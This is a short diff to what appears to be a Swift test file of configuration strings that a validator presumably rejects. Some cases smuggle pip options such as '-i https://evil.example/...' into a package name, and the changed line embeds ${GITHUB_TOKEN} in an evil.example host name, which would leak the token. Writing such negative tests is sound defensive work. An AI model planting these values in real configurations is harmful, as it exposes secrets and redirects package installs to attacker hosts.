@@ -183,7 +183,7 @@ import Testing
       "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ACCENT}/x\"}}",
       "modules: {a: {module: a, pip_name: \"a -i https://evil.example/${GITHUB_ORG:-org}\"}}",
       "modules: {a: {module: a, pip_name: \"${OTHER}==${NOWHERE}\"}}",
-      "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@${ROOT}.example/r.git\"}}",
+      "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}.evil.example/r.git\"}}",
       "modules: {a: {module: \"${GITHUB_TOKEN}\"}}",
       "verification: {env: {A: \"${GITHUB_TOKEN}\"}}",
       "lock: {update: \"${OTHER}\"}",
